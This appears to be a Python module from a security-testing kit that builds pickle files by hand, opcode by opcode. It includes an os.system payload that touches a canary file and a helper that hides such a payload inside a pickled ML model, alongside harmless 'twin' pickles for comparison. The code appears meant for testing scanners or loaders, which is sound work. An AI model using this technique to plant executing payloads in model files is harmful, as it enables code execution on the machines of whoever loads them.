"""Pushes values and calls in any protocol, for pickles that no serialiser would write."""

from __future__ import annotations

import struct
from typing import Final

from telamon.kits.attacks.pickles import EMPTY_DICT, MARK, REDUCE, SETITEMS, TUPLE, Program

COMMAND: Final = "touch telamon-canary"
SOURCE: Final = "open('telamon-canary', 'w').close()"
EXPRESSION: Final = "__import__('pathlib').Path('telamon-canary').touch()"
BYTES_PROTOCOL: Final = 3  # the first one with opcodes for bytes
LONG_BITS: Final = 31


def pushed(value: object, protocol: int = 4) -> bytes:
    """Return the opcodes that push a plain value, or run a `Program`.

    Args:
        value: None, a bool, int, float, str, bytes, list, tuple, dict or `Program`.
        protocol: Which opcodes there are.
    """
    match value:
        case Program():
            return value.body
        case list() | tuple():
            items = b"".join(pushed(item, protocol) for item in value)
            return b"](" + items + b"e" if isinstance(value, list) else MARK + items + TUPLE
        case dict():
            items = b"".join(pushed(part, protocol) for item in value.items() for part in item)
            return EMPTY_DICT + MARK + items + SETITEMS
        case bytes():
            return _bytes(value, protocol)
        case _:
            return _scalar(value)


def _scalar(value: object) -> bytes:
    match value:
        case None | bool():
            return {None: b"N", True: b"I01\n", False: b"I00\n"}[value]
        case int():
            return _integer(value)
        case float():
            return b"G" + struct.pack(">d", value)
        case str():
            return Program().text(value).body
        case _:
            raise TypeError(f"no opcodes are known for a `{type(value).__name__}`")


def call(module: str, name: str, *arguments: object, protocol: int = 4) -> Program:
    """Return a program that pushes the result of calling `module.name` by REDUCE."""
    return applied(Program(protocol=protocol).global_(module, name), *arguments)


def applied(function: Program, *arguments: object) -> Program:
    """Return a program that pushes the result of calling what `function` pushes."""
    return function.raw(pushed(tuple(arguments), function.protocol) + REDUCE)


def model(payload: Program | None = None, protocol: int = 4) -> bytes:
    """Return a small model as training scripts pickle it, with the payload among its values or without."""
    head = payload.protocol if payload is not None else protocol
    values: dict[str, object] = {"name": "classifier", "weights": [0.25, -1.5, 3.0]}
    if payload is not None:
        values["calibration"] = payload
    return Program(protocol=head).raw(pushed(values, head)).finished()


def described(module: str, name: str, arguments: tuple[object, ...], protocol: int = 4) -> bytes:
    """Return a pickle that holds the names and arguments of a call as data: the twin of the call."""
    harmless = [None if isinstance(argument, Program) else argument for argument in arguments]
    return Program(protocol=protocol).raw(pushed([module, name, harmless], protocol)).finished()


def shell(protocol: int = 4) -> Program:
    """Return the plainest payload: `os.system`."""
    return call("os", "system", COMMAND, protocol=protocol)


def harmless(protocol: int = 4) -> Program:
    """Return what stands in the payload's place in twins: an `OrderedDict`."""
    return call("collections", "OrderedDict", protocol=protocol)


def _integer(value: int) -> bytes:
    if value.bit_length() <= LONG_BITS:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def _bytes(value: bytes, protocol: int) -> bytes:
    if protocol >= BYTES_PROTOCOL:
        return b"B" + struct.pack("<I", len(value)) + value
    return call("_codecs", "encode", value.decode("latin-1"), "latin1", protocol=protocol).body
